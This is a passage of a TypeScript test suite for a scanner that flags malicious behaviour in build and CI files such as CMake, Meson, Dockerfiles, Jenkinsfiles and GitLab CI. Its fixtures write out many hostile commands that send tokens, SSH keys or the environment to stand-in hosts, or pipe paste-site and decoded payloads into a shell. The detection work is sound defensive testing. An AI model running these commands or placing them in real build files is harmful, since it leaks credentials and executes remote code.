    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://example.net/data/words.txt ${CMAKE_BINARY_DIR}/words.txt)'))).toMatchObject({ severity: 'medium', line: 1 });
    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://example.net/tool ${BIN}/tool)\nfile(CHMOD ${BIN}/tool PERMISSIONS OWNER_EXECUTE OWNER_READ)'))).toMatchObject({ severity: 'high' });
    // Pinned with a checksum from an ordinary host: what the fix asks for.
    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://example.net/tools/setup.sh ${CMAKE_BINARY_DIR}/setup.sh\n  EXPECTED_HASH SHA256=0f3c2d)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/setup.sh)'))).toBeNull();
    // CPM.cmake's get_cpm.cmake: a release at a version over HTTPS, with or without its hash, is ordinary (as FetchContent of a release is).
    const cpm = (hash: string) => `set(CPM_DOWNLOAD_VERSION 0.40.2)\nset(CPM_DOWNLOAD_LOCATION "\${CMAKE_BINARY_DIR}/cmake/CPM_\${CPM_DOWNLOAD_VERSION}.cmake")\nfile(DOWNLOAD\n  https://github.com/cpm-cmake/CPM.cmake/releases/download/v\${CPM_DOWNLOAD_VERSION}/CPM.cmake\n  \${CPM_DOWNLOAD_LOCATION}${hash})\ninclude(\${CPM_DOWNLOAD_LOCATION})`;
    expect(buildFinding(added('cmake/get_cpm.cmake', cpm(' EXPECTED_HASH SHA256=${CPM_HASH_SUM}')))).toBeNull();
    expect(buildFinding(added('cmake/get_cpm.cmake', cpm('')))).toBeNull();
    // At a moving ref, over plain HTTP, or from a bare IP, without a hash: a download; with a hash from a bare IP still one.
    expect(buildFinding(added('cmake/get_cpm.cmake', 'file(DOWNLOAD https://raw.githubusercontent.com/cpm-cmake/CPM.cmake/master/cmake/CPM.cmake ${CMAKE_BINARY_DIR}/CPM.cmake)'))).toMatchObject({ severity: 'medium' });
    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD http://downloads.example.org/v1.2/tool ${BIN}/tool)\nfile(CHMOD ${BIN}/tool PERMISSIONS OWNER_EXECUTE OWNER_READ)'))).toMatchObject({ severity: 'high' });
    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://45.77.12.9/v1.2/tool ${BIN}/tool EXPECTED_HASH SHA256=0f3c)\nfile(CHMOD ${BIN}/tool PERMISSIONS OWNER_EXECUTE)'))).toMatchObject({ severity: 'critical' });
  });

  it('reads add_custom_command that decodes a test file and pipes it into a shell as critical (the xz shape, in CMake)', () => {
    const text = `
add_custom_command(OUTPUT \${CMAKE_CURRENT_BINARY_DIR}/crc64_table.h
  COMMAND sh -c "base64 -d \${CMAKE_SOURCE_DIR}/tests/files/good-large.b64 | sh"
  COMMENT "Generating CRC tables"
  VERBATIM)`;
    expect(callKinds(text, 'cmake')).toEqual(['decode', 'execute', 'pipe-to-shell']);
    expect(buildFinding(added('src/CMakeLists.txt', text))).toMatchObject({ severity: 'critical', line: 2, title: 'CMakeLists.txt decodes data and runs it as shell code when CMake configures or builds the project' });
    expect(callKinds('execute_process(COMMAND xz -dc tests/files/bad-3.xz COMMAND sh)', 'cmake')).toEqual(['decode', 'execute', 'pipe-to-shell']);
  });

  it('reads credential files and secrets sent to a host, a file(UPLOAD), the environment and a binary in disguise', () => {
    expect(buildFinding(added('CMakeLists.txt', 'file(READ "$ENV{HOME}/.ssh/id_rsa" KEY)\nexecute_process(COMMAND curl -s -X POST -d "$ENV{GITHUB_TOKEN}" https://webhook.site/3f1c)'))).toMatchObject({
      severity: 'critical',
      title: 'CMakeLists.txt sends credentials or the environment to a host when CMake configures or builds the project',
    });
    expect(buildFinding(added('CMakeLists.txt', 'file(READ "$ENV{HOME}/.aws/credentials" AWS)'))).toMatchObject({ severity: 'high' });
    expect(callKinds('execute_process(COMMAND ${CMAKE_COMMAND} -E environment OUTPUT_VARIABLE ENV_DUMP)\nfile(UPLOAD ${CMAKE_BINARY_DIR}/env.txt https://collect.example.org/u)', 'cmake')).toEqual(['environment', 'send']);
    expect(buildFinding(added('CMakeLists.txt', 'execute_process(COMMAND ${CMAKE_COMMAND} -E environment OUTPUT_VARIABLE E)\nfile(UPLOAD ${CMAKE_BINARY_DIR}/e.txt https://collect.example.org/u)'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('CMakeLists.txt', 'execute_process(COMMAND ${CMAKE_SOURCE_DIR}/assets/logo.png --init)'))).toMatchObject({ severity: 'critical', title: 'CMakeLists.txt runs a binary disguised as data when CMake configures or builds the project' });
  });

  it('reads FetchContent and ExternalProject sources: a bare IP is critical, plain http without URL_HASH high', () => {
    expect(buildFinding(added('CMakeLists.txt', 'ExternalProject_Add(helper\n  URL https://185.199.1.2/helper.tar.gz\n  URL_HASH SHA256=0f3c2d\n  BUILD_COMMAND make)'))).toMatchObject({ severity: 'critical', line: 2 });
    expect(buildFinding(added('CMakeLists.txt', 'FetchContent_Declare(zlib\n  URL http://zlib.example.org/zlib-1.3.tar.gz)'))).toMatchObject({ severity: 'high', line: 2 });
    expect(buildFinding(added('CMakeLists.txt', 'FetchContent_Declare(zlib\n  URL http://zlib.example.org/zlib-1.3.tar.gz\n  URL_HASH SHA256=0f3c2d)'))).toBeNull();
    expect(buildFinding(added('CMakeLists.txt', 'FetchContent_Declare(x\n  GIT_REPOSITORY https://pastebin.com/raw/x.git\n  GIT_TAG main)'))).toMatchObject({ severity: 'critical' });
  });

  it('reads a hunk that starts inside a call: the COMMAND keyword on the added line, the pin on a context line', () => {
    const patch = '@@ -10,3 +10,4 @@ execute_process(\n   WORKING_DIRECTORY ${CMAKE_BINARY_DIR}\n+  COMMAND curl -fsSL https://get.example.dev/bootstrap.sh\n+  COMMAND sh\n   OUTPUT_QUIET)';
    expect(readCallBehaviors(patch, 'cmake', 3000).map((b) => `${b.line}:${b.kind}`)).toEqual(['11:download', '12:execute']);
    const pinned = '@@ -1,4 +1,4 @@\n FetchContent_Declare(zlib\n-  URL https://zlib.example.org/zlib-1.3.tar.gz\n+  URL http://zlib.example.org/zlib-1.3.1.tar.gz\n   URL_HASH SHA256=0f3c2d)';
    expect(readCallBehaviors(pinned, 'cmake', 3000)).toEqual([]);
  });

  it('leaves ordinary CMake alone: find_package, pinned FetchContent, generators, install, git describe, messages', () => {
    const ordinary = `
cmake_minimum_required(VERSION 3.24)
project(fmtlike VERSION 10.2.1 LANGUAGES CXX)
include(FetchContent)
find_package(Threads REQUIRED)
FetchContent_Declare(googletest
  GIT_REPOSITORY https://github.com/google/googletest.git
  GIT_TAG v1.14.0)
FetchContent_Declare(json URL https://github.com/nlohmann/json/releases/download/v3.11.3/json.tar.xz URL_HASH SHA256=d6c65aca6b1ed68e7a182f4757257b107ae403032760ed6ef121c9d55e81757d)
FetchContent_MakeAvailable(googletest json)
add_custom_command(OUTPUT \${CMAKE_CURRENT_BINARY_DIR}/version.h
  COMMAND \${Python3_EXECUTABLE} \${CMAKE_CURRENT_SOURCE_DIR}/tools/gen_version.py --out version.h
  DEPENDS tools/gen_version.py
  COMMENT "Generating version.h (curl-style semver)")
add_custom_target(docs ALL COMMAND \${DOXYGEN_EXECUTABLE} Doxyfile WORKING_DIRECTORY \${CMAKE_SOURCE_DIR}/doc)
add_custom_command(TARGET fmt POST_BUILD COMMAND \${CMAKE_COMMAND} -E copy $<TARGET_FILE:fmt> \${CMAKE_BINARY_DIR}/bin)
execute_process(COMMAND git describe --tags OUTPUT_VARIABLE GIT_VERSION OUTPUT_STRIP_TRAILING_WHITESPACE)
execute_process(COMMAND \${CMAKE_COMMAND} -E tar xzf \${CMAKE_SOURCE_DIR}/third_party/zlib.tar.gz)
set(INSTALL_HINT "curl -fsSL https://example.com/install.sh | sh")
message(STATUS "Fetching dependencies with wget is not supported: \${INSTALL_HINT}")
install(TARGETS fmt EXPORT fmt-targets DESTINATION lib PERMISSIONS OWNER_READ OWNER_WRITE OWNER_EXECUTE)
# file(DOWNLOAD http://45.77.12.9/x x) was the old way`;
    expect(callKinds(ordinary, 'cmake')).toEqual([]);
    expect(buildFinding(added('CMakeLists.txt', ordinary))).toBeNull();
    expect(buildFinding(added('cmake/FindZstd.cmake', 'find_path(ZSTD_INCLUDE_DIR zstd.h)\nfind_library(ZSTD_LIBRARY NAMES zstd)\ninclude(FindPackageHandleStandardArgs)'))).toBeNull();
  });

  it('reads Meson run_command, custom_target command: and install scripts the same way', () => {
    expect(buildFinding(added('meson.build', "r = run_command('sh', '-c', 'curl -fsSL https://paste.ee/r/Xa1b | sh', check: false)"))).toMatchObject({ severity: 'critical', path: 'meson.build' });
    const decode = `
custom_target('crc-tables',
  output: 'crc_tables.h',
  command: ['sh', '-c', 'xz -dc @SOURCE_ROOT@/tests/files/bad-3-corrupt.xz | sh'],
)`;
    expect(callKinds(decode, 'meson')).toEqual(['decode', 'execute', 'pipe-to-shell']);
    expect(buildFinding(added('src/meson.build', decode))).toMatchObject({ severity: 'critical', line: 3, title: 'meson.build decodes data and runs it as shell code when Meson configures or builds the project' });
    expect(callKinds("run_command(find_program('python3'), '-c', 'import urllib.request,os;urllib.request.urlretrieve(\"http://203.0.113.9/p\",\"p\");os.system(\"sh p\")', check: false)", 'meson')).toEqual(['download', 'execute', 'suspicious-host']);
    expect(buildFinding(added('meson.build', "run_command('sh', '-c', 'curl -s -d \"$NPM_TOKEN\" https://collect.example.org/t', check: false)"))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('meson.build', "meson.add_install_script('data/icons/app.png')"))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('meson_options.txt', "option('mirror', type: 'string', value: 'https://webhook.site/3f1c')"))).toMatchObject({ severity: 'medium', title: 'Meson options file talks to a bare IP address or a paste service when Meson configures the project' });
  });

  it('leaves ordinary Meson alone: git describe, the project generator, dependencies, install scripts, options', () => {
    const ordinary = `
project('zlibng', 'c', version: run_command('git', 'describe', '--tags', check: false).stdout().strip())
gen = find_program('scripts/gen_tables.py')
tables = custom_target('tables', input: 'tables.in', output: 'tables.c', command: [gen, '@INPUT@', '@OUTPUT@'])
dep = dependency('zlib', fallback: ['zlib', 'zlib_dep'])
meson.add_install_script('scripts/post-install.sh')
run_target('format', command: ['clang-format', '-i', files('src/a.c')])
conf = configuration_data()
conf.set_quoted('DOWNLOAD_URL', 'https://example.org/releases')`;
    expect(callKinds(ordinary, 'meson')).toEqual([]);
    expect(buildFinding(added('meson.build', ordinary))).toBeNull();
    expect(buildFinding(added('meson_options.txt', "option('tests', type: 'boolean', value: true, description: 'Build the tests (needs curl)')"))).toBeNull();
  });
});

describe("build-code-behavior: direnv's .envrc", () => {
  it('reads what direnv runs on entering the directory: sending the environment or credentials out is critical', () => {
    expect(buildFinding(added('.envrc', 'export DATABASE_URL=postgres://localhost/dev\ndotenv_if_exists\ncurl -s -X POST -d "$(env)" https://collect.example.net/e >/dev/null 2>&1'))).toMatchObject({ severity: 'critical', path: '.envrc', line: 3 });
    expect(buildFinding(added('services/api/.envrc', 'source_up\ncurl -s --data-binary @$HOME/.aws/credentials https://webhook.site/3f1c'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('.envrc', 'use flake\nwget -q -O .direnv/bin/tool http://45.77.12.9/tool && chmod +x .direnv/bin/tool && .direnv/bin/tool'))).toMatchObject({ severity: 'critical' });
  });

  it('reads justfiles, Taskfiles and Nix development shells as tasks: a send of the environment or a piped paste is critical there', () => {
    expect(buildFinding(added('justfile', 'test:\n    curl -s -X POST -d "$(env | base64)" https://abc.trycloudflare.com/c\n    cargo test'))).toMatchObject({ severity: 'critical', title: 'justfile sends credentials or the environment to a host when a task runs' });
    expect(buildFinding(added('Taskfile.yml', 'version: "3"\ntasks:\n  login:\n    cmds:\n      - cat ~/.npmrc | curl -s --data-binary @- https://hooks.example.net/t'))).toMatchObject({ severity: 'critical' });
    const flake = '{\n  outputs = { self, nixpkgs }: {\n    devShells.x86_64-linux.default = nixpkgs.legacyPackages.x86_64-linux.mkShell {\n      shellHook = \'\'\n        curl -s https://pastebin.com/raw/xYz12 | bash\n      \'\';\n    };\n  };\n}';
    expect(buildFinding(added('flake.nix', flake))).toMatchObject({ severity: 'critical', line: 5 });
  });

  it('is quiet on ordinary justfiles, Taskfiles and Nix shells: tools at a version, inputs, packages, exports', () => {
    expect(buildFinding(added('justfile', 'set dotenv-load\n\ntools:\n    curl -sSfL https://github.com/casey/just/releases/download/1.36.0/just-1.36.0-x86_64-unknown-linux-musl.tar.gz | tar xz -C bin\n\ntest:\n    cargo nextest run --workspace\n\nrelease version:\n    git tag -s v{{version}} -m "v{{version}}"\n    cargo publish --token "$CARGO_REGISTRY_TOKEN"'))).toBeNull();
    expect(buildFinding(added('Taskfile.yml', 'version: "3"\ntasks:\n  lint:\n    cmds:\n      - go install honnef.co/go/tools/cmd/staticcheck@2024.1.1\n      - staticcheck ./...\n  test:\n    cmds:\n      - go test -race ./...'))).toBeNull();
    const flake = '{\n  inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-24.05";\n  inputs.flake-utils.url = "https://flakehub.com/f/numtide/flake-utils/0.1.tar.gz";\n  outputs = { self, nixpkgs, flake-utils }: flake-utils.lib.eachDefaultSystem (system: {\n    devShells.default = nixpkgs.legacyPackages.${system}.mkShell {\n      packages = with nixpkgs.legacyPackages.${system}; [ nodejs_22 pnpm ];\n      shellHook = \'\'\n        export PATH="$PWD/node_modules/.bin:$PATH"\n        echo "node $(node --version)"\n      \'\';\n    };\n  });\n}';
    expect(buildFinding(added('flake.nix', flake))).toBeNull();
  });

  it('reads Dockerfile RUN lines for the critical shapes: a secret build argument sent out, decoded text piped into a shell; a paste host is high', () => {
    expect(buildFinding(added('Dockerfile', 'FROM node:22-alpine\nARG NPM_TOKEN\nRUN echo "$NPM_TOKEN" | curl -s -d @- https://hooks.example-collect.net/n && npm ci'))).toMatchObject({ severity: 'critical', title: 'Dockerfile sends credentials or the environment to a host when the image is built' });
    expect(buildFinding(added('build/app.Dockerfile', 'FROM alpine:3.20\nRUN echo "Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9wIHwgc2g=" | base64 -d | sh'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('Dockerfile', 'FROM alpine:3.20\nRUN wget -q -O /tmp/report --post-file=/etc/hostname https://webhook.site/2b7c'))).toMatchObject({ severity: 'high' });
  });

  it('reads a token sent only to the service its name names (a release upload) as that service\'s credential in use, not as credentials sent', () => {
    const upload = added('Makefile', 'release:\n\tcurl -sSf -H "Authorization: Bearer $(GITHUB_TOKEN)" --data-binary @dist/app.tar.gz "https://uploads.github.com/repos/acme/app/releases/1/assets?name=app.tar.gz"');
    expect(buildFinding(upload)?.severity).not.toBe('critical');
    const sentry = added('Dockerfile', 'FROM node:22\nARG SENTRY_AUTH_TOKEN\nRUN curl -sS -X POST -H "Authorization: Bearer $SENTRY_AUTH_TOKEN" https://sentry.io/api/0/organizations/acme/releases/ -d \'{"version":"v1"}\'');
    expect(buildFinding(sentry)).toBeNull();
    // The same token to another host, to a subdomain anyone can name, beside another host, or with the environment: sent.
    for (const line of [
      'curl -s -d "$$NPM_TOKEN" https://hooks.example-collect.net/n',
      'curl -s -H "Authorization: token $(GITHUB_TOKEN)" -d @x https://github.attacker.example/c',
      'curl -s -H "Authorization: token $(GITHUB_TOKEN)" -d @x https://api.github.com/x https://collect.example/y',
      'curl -s -H "Authorization: token $(GITHUB_TOKEN)" -d "$(NPM_TOKEN)" https://api.github.com/gists',
      'curl -s -H "Authorization: token $(GITHUB_TOKEN)" -d "$$(env)" https://api.github.com/gists',
      'curl -u "deploy:$$ARTIFACTORY_TOKEN" -T build/app.jar https://artifactory.acme.example/libs-release/app.jar',
    ]) {
      expect(buildFinding(added('Makefile', `x:\n\t${line}`))?.severity, line).toBe('critical');
    }
    expect(buildFinding(added('Dockerfile', 'FROM node:22-alpine\nARG NPM_TOKEN\nRUN echo "$NPM_TOKEN" | curl -s -d @- https://sentry.example-collect.net/n'))?.severity).toBe('critical');
  });

  it('is quiet on ordinary Dockerfiles: tools downloaded and run, secret mounts for the registry, unpinned fetches left to the other rules', () => {
    const dockerfile = [
      'FROM node:22-alpine AS build',
      'ARG NPM_TOKEN',
      'RUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci',
      'RUN curl -fsSLo /usr/local/bin/kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl && chmod +x /usr/local/bin/kubectl',
      'RUN wget -qO- https://github.com/grpc-ecosystem/grpc-health-probe/releases/latest/download/grpc_health_probe-linux-amd64 > /bin/grpc_health_probe && chmod +x /bin/grpc_health_probe',
      'RUN echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish && rm .npmrc',
      'RUN gunzip -c /tmp/data.gz > /srv/data',
    ].join('\n');
    expect(buildFinding(added('Dockerfile', dockerfile))).toBeNull();
  });

  it('reads Bazel Starlark files as build code: a repository rule that pipes a download into a shell', () => {
    expect(buildFinding(added('tools/deps.bzl', 'def _impl(rctx):\n    rctx.execute(["sh", "-c", "curl -s https://x.ngrok-free.app/s | sh"])\n    rctx.file("BUILD", "")'))).toMatchObject({ severity: 'critical', title: 'Bazel Starlark file downloads and runs code when Bazel fetches the external repositories' });
    expect(buildFinding(added('MODULE.bazel', 'http_archive = use_repo_rule("@bazel_tools//tools/build_defs/repo:http.bzl", "http_archive")\nhttp_archive(name = "zlib", urls = ["http://91.92.1.3/zlib.tar.gz"])'))).toMatchObject({ severity: 'medium' });
  });

  it('is quiet on ordinary Bazel: archives from release pages with a checksum, tools the rule runs', () => {
    const bzl = ['def _impl(rctx):', '    rctx.download_and_extract(url = "https://github.com/protocolbuffers/protobuf/releases/download/v28.2/protoc-28.2-linux-x86_64.zip", sha256 = "2febfd42b59ce93a28eb789019a470a3dd0449619bc04f84dad1333da261dec1")', '    rctx.execute(["chmod", "+x", "bin/protoc"])', '    rctx.file("BUILD.bazel", "exports_files([\\"bin/protoc\\"])")'].join('\n');
    expect(buildFinding(added('third_party/protoc.bzl', bzl))).toBeNull();
    expect(buildFinding(added('MODULE.bazel', 'module(name = "app", version = "1.0")\nbazel_dep(name = "rules_go", version = "0.50.1")\nbazel_dep(name = "gazelle", version = "0.39.1")'))).toBeNull();
  });

  it('is quiet on what .envrc files hold: exports, layouts, Nix and devbox hooks, dotenv', () => {
    for (const text of [
      'use flake',
      'use nix\nlayout python3\nPATH_add bin\nwatch_file flake.nix',
      'eval "$(devbox generate direnv --print-envrc)"',
      'export AWS_PROFILE=acme-dev\ndotenv .env.local',
      'source_env_if_exists .envrc.local\nexport NODE_OPTIONS=--max-old-space-size=4096',
      'if has nix; then\n  use flake . --impure\nfi',
    ]) expect(buildFinding(added('.envrc', text)), text).toBeNull();
    // Naming a credential store is low on a task's ladder, as in a Makefile (a kubeconfig for a dev cluster).
    expect(buildFinding(added('.envrc', 'export KUBECONFIG="$PWD/.kube/config"'))).toMatchObject({ severity: 'low' });
  });
});

describe('build-code-behavior: pipelines of other CI systems (GitLab CI, Jenkins, …)', () => {
  it('reports secrets or the environment sent out of a pipeline, critical; a send to or download from such a host, high', () => {
    const jenkins = buildFinding(added('Jenkinsfile', "pipeline {\n  agent any\n  stages {\n    stage('Build') {\n      steps {\n        withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {\n          sh 'curl -s -d \"t=$NPM_TOKEN\" https://webhook.site/3f1c2a'\n        }\n      }\n    }\n  }\n}"));
    // At the line that sends the npm token to a host not npm's (secret-elsewhere leads), not the binding's.
    expect(jenkins).toMatchObject({ severity: 'critical', path: 'Jenkinsfile', line: 7, title: 'Jenkinsfile sends credentials or the environment to a host when CI runs it' });
    expect(buildFinding(added('.gitlab-ci.yml', 'build:\n  script:\n    - npm ci\n    - curl -s -X POST --data "k=$AWS_SECRET_ACCESS_KEY" http://45.77.12.9:8080/c'))).toMatchObject({ severity: 'critical', line: 4 });
    expect(buildFinding(added('jenkins/release.groovy', 'def call() {\n  sh """\n    env | base64 -w0 | curl -s -d @- https://ci-metrics.example.net/in\n  """\n}'))).toMatchObject({ severity: 'critical', line: 3 });
    expect(buildFinding(added('.circleci/config.yml', 'jobs:\n  build:\n    steps:\n      - run: curl -s -o seed.sql https://pastebin.com/raw/x1y2z3'))).toMatchObject({ severity: 'high' });
  });

  it('is quiet on what pipelines do with their credentials: uploads, deploys, logins, notifications; and on a debugging env beside an upload', () => {
    for (const [path, text] of [
      ['.gitlab-ci.yml', 'deploy:\n  script:\n    - curl -u "$NEXUS_USER:$NEXUS_PASSWORD" --upload-file app.zip https://nexus.acme.dev/repository/releases/app.zip'],
      ['Jenkinsfile', "pipeline {\n  stages {\n    stage('Notify') {\n      steps {\n        sh 'curl -s -X POST -H \"Authorization: Bearer $SLACK_TOKEN\" -d \"{}\" https://slack.com/api/chat.postMessage'\n      }\n    }\n  }\n}"],
      ['Jenkinsfile', "node {\n  sh 'env | sort'\n  sh 'curl -sf -X POST -F file=@coverage.xml https://coverage.acme.dev/upload'\n  sh 'echo $DOCKER_PASSWORD | docker login -u ci --password-stdin registry.acme.dev'\n}"],
      ['azure-pipelines.yml', 'steps:\n- script: curl -fsSL https://deb.nodesource.com/setup_22.x -o setup.sh && sudo bash setup.sh'],
      // Build notifications to a chat service's incoming webhook, its token in the URL.
      ['.gitlab-ci.yml', 'notify:\n  script:\n    - curl -X POST -H "Content-type: application/json" --data "{\\"text\\":\\"deployed\\"}" https://hooks.slack.com/services/$SLACK_WEBHOOK_TOKEN'],
      ['Jenkinsfile', "node {\n  sh 'curl -s -H \"Content-Type: application/json\" -d \"{\\\"content\\\":\\\"built\\\"}\" https://discord.com/api/webhooks/$DISCORD_WEBHOOK'\n}"],
    ] as const) expect(buildFinding(added(path, text)), text).toBeNull();
  });

  it("reads PowerShell's env: drive and .NET's GetEnvironmentVariables() as the whole environment, and Invoke-RestMethod/-WebRequest with -Method Post or -Body as a send", () => {
    expect(buildFinding(added('azure-pipelines.yml', 'steps:\n- powershell: Invoke-RestMethod -Uri https://stats.buildmetrics.io/v1 -Method Post -Body (Get-ChildItem env: | Out-String)'))).toMatchObject({ severity: 'critical', line: 2 });
    expect(buildFinding(added('.gitlab-ci.yml', 't:\n  script:\n    - pwsh -c "iwr https://stats.buildmetrics.io/v1 -Body ([Environment]::GetEnvironmentVariables() | ConvertTo-Json)"'))).toMatchObject({ severity: 'critical', line: 3 });
    expect(kinds('Get-ChildItem env: | Sort-Object Name', 'shell')).toEqual(['environment']);
    expect(kinds('Get-ChildItem env:PATH', 'shell')).toEqual([]);
  });

  it('is quiet on the env: drive listed for debugging and a deploy posted with its token in a header', () => {
    const text = 'steps:\n- pwsh: Get-ChildItem env: | Sort-Object Name\n- pwsh: Invoke-RestMethod -Uri https://api.acme.dev/deploys -Method Post -Headers @{ Authorization = "Bearer $(DEPLOY_TOKEN)" } -Body (@{ sha = \'$(Build.SourceVersion)\' } | ConvertTo-Json)';
    expect(buildFinding(added('azure-pipelines.yml', text))).toBeNull();
  });

  it('reports the whole environment or a credential printed to the log through encoders only, critical (the tj-actions payload in another CI system)', () => {
    const gitlab = buildFinding(added('.gitlab-ci.yml', 'test:\n  script:\n    - npm ci\n    - env | base64 -w0 | base64 -w0\n    - npm test'));
    expect(gitlab).toMatchObject({ severity: 'critical', line: 4, title: '.gitlab-ci.yml prints secrets to the log encoded when CI runs it' });
    expect(buildFinding(added('azure-pipelines.yml', 'steps:\n- script: npm ci\n- script: printenv | base64 | base64\n  displayName: Diagnostics'))).toMatchObject({ severity: 'critical', line: 3 });
    // Azure's $(NAME) macro is the variable's text, not a command substitution.
    expect(buildFinding(added('azure-pipelines.yml', 'steps:\n- script: echo $(NPM_TOKEN) | base64 | rev'))).toMatchObject({ severity: 'critical', line: 2 });
    expect(buildFinding(added('.circleci/config.yml', 'jobs:\n  build:\n    steps:\n      - run: printenv | xxd -p'))).toMatchObject({ severity: 'critical', line: 4 });
    // Filtered on the way (grep for the secrets' names, strip the line breaks): the last stage still encodes.
    expect(buildFinding(added('.gitlab-ci.yml', 'test:\n  script:\n    - env | grep -iE "token|secret|key" | tr -d "\\n" | base64 -w0'))).toMatchObject({ severity: 'critical', line: 3 });
    // A Jenkins binding judged by its credential's id: `T` holds the npm token.
    const jenkins = "node {\n  withCredentials([string(credentialsId: 'npm-token', variable: 'T')]) {\n    sh 'echo \"$T\" | xxd -p'\n  }\n}";
    expect(buildFinding(added('Jenkinsfile', jenkins))).toMatchObject({ severity: 'critical', line: 3 });
    // An echo that prints nothing but an encoding's output prints it (`echo "$(…)"`).
    expect(buildFinding(added('.gitlab-ci.yml', 'test:\n  script:\n    - echo "$(echo $NPM_TOKEN | base64 | base64)"'))).toMatchObject({ severity: 'critical', line: 3 });
  });

  it('is quiet on a secret decoded into a file or a key ring, encoded into a variable or a file, and on the environment sorted or filtered', () => {
    for (const [path, text] of [
      ['.gitlab-ci.yml', 'sign:\n  script:\n    - echo "$KEYSTORE_B64" | base64 -d > release.jks\n    - echo "$SIGNING_KEY" | base64 --decode | gpg --batch --import'],
      ['.gitlab-ci.yml', 'debug:\n  script:\n    - env | sort\n    - printenv | grep CI_ | sort\n    - env | base64 -w0 | wc -c'],
      ['.gitlab-ci.yml', 'upload:\n  script:\n    - AUTH=$(echo -n "$NEXUS_USER:$NEXUS_PASSWORD" | base64 -w0)\n    - echo "$CI_COMMIT_SHA" | base64\n    - cat coverage/lcov.info | base64 -w0'],
      ['.gitlab-ci.yml', 'kaniko:\n  script:\n    - echo "{\\"auths\\":{\\"$CI_REGISTRY\\":{\\"auth\\":\\"$(printf "%s:%s" "$CI_REGISTRY_USER" "$CI_REGISTRY_PASSWORD" | base64 | tr -d \'\\n\')\\"}}}" > /kaniko/.docker/config.json'],
      ['azure-pipelines.yml', 'steps:\n- script: echo $(DOCKER_CONFIG_B64) | base64 -d > ~/.docker/config.json\n- script: echo $(Build.BuildNumber) | base64'],
    ] as const) expect(buildFinding(added(path, text)), text).toBeNull();
  });

  it("reads Jenkins' httpRequest as a send, and a credential named for one service sent as data to another's host as high (GhostAction in a pipeline)", () => {
    // The HTTP Request plugin posting a bound credential to a collector: critical, as curl would be.
    const posted = "pipeline {\n  agent any\n  stages {\n    stage('Stats') {\n      steps {\n        withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {\n          httpRequest url: 'https://webhook.site/0b1c2d3e', httpMode: 'POST', requestBody: \"t=${NPM_TOKEN}\"\n        }\n      }\n    }\n  }\n}";
    expect(buildFinding(added('Jenkinsfile', posted))).toMatchObject({ severity: 'critical', line: 7 });
    // To an ordinary-looking host: a variable named for npm, a binding named by its credential's id, an environment credential's _PSW.
    expect(buildFinding(added('Jenkinsfile', "node {\n  withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {\n    sh 'curl -s -X POST -d \"t=$NPM_TOKEN\" https://stats.buildmetrics.io/v1'\n  }\n}"))).toMatchObject({ severity: 'high', line: 3 });
    expect(buildFinding(added('vars/notifyBuild.groovy', "def call() {\n  withCredentials([string(credentialsId: 'npm-token', variable: 'T')]) {\n    httpRequest url: 'https://build-stats.ci-metrics.net/collect', httpMode: 'POST', requestBody: \"{\\\"t\\\":\\\"${T}\\\"}\"\n  }\n}"))).toMatchObject({ severity: 'high', path: 'vars/notifyBuild.groovy', line: 3, title: "notifyBuild.groovy sends a credential to another service's host when a pipeline that loads the library runs it" });
    expect(buildFinding(added('Jenkinsfile', "pipeline {\n  environment {\n    AWS = credentials('aws-prod')\n  }\n  stages {\n    stage('Stats') { steps { httpRequest(url: 'https://stats.buildmetrics.io/v1', httpMode: 'POST', requestBody: \"s=${env.AWS_PSW}\") } }\n  }\n}"))).toMatchObject({ severity: 'high', line: 6 });
    expect(buildFinding(added('.gitlab-ci.yml', 'stats:\n  script:\n    - curl -s -X POST -d "k=$PYPI_API_TOKEN" https://ci-stats.buildmetrics.io/v1'))).toMatchObject({ severity: 'high', line: 3 });
  });

  it("is quiet on a credential used as the request's own (a header, authentication:, -u), sent to its own service, a generic name, or a URL the line does not show", () => {
    for (const [path, text] of [
      ['Jenkinsfile', "node {\n  httpRequest url: 'https://nexus.acme.dev/service/rest/v1/components?repository=releases', httpMode: 'POST', authentication: 'nexus-creds', uploadFile: 'dist/app.zip', multipartName: 'file'\n}"],
      ['Jenkinsfile', "node {\n  withCredentials([string(credentialsId: 'slack-token', variable: 'SLACK_TOKEN')]) {\n    httpRequest url: 'https://slack.com/api/chat.postMessage', httpMode: 'POST', customHeaders: [[name: 'Authorization', value: \"Bearer ${SLACK_TOKEN}\", maskValue: true]], requestBody: '{}'\n  }\n}"],
      ['Jenkinsfile', "node {\n  withCredentials([string(credentialsId: 'sonar-token', variable: 'T')]) {\n    sh 'curl -X POST -d \"token=$T\" https://sonarqube.acme.dev/api/ce/submit'\n  }\n}"],
      ['Jenkinsfile', "node {\n  withCredentials([string(credentialsId: 'deploy-token', variable: 'TOKEN')]) {\n    httpRequest url: 'https://deploy.acme.dev/hooks', httpMode: 'POST', requestBody: \"t=${TOKEN}\"\n  }\n}"],
      ['.gitlab-ci.yml', 'trigger:\n  script:\n    - curl -X POST -F token=$CI_JOB_TOKEN -F ref=main https://gitlab.acme.dev/api/v4/projects/1/trigger/pipeline'],
      ['.gitlab-ci.yml', 'coverage:\n  script:\n    - curl -F "token=$CODECOV_TOKEN" -F "file=@coverage.xml" https://codecov.io/upload/v4'],
      ['Jenkinsfile', "node {\n  withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {\n    sh 'curl -X POST -d \"t=$NPM_TOKEN\" $STATS_URL'\n  }\n}"],
    ] as const) expect(buildFinding(added(path, text)), text).toBeNull();
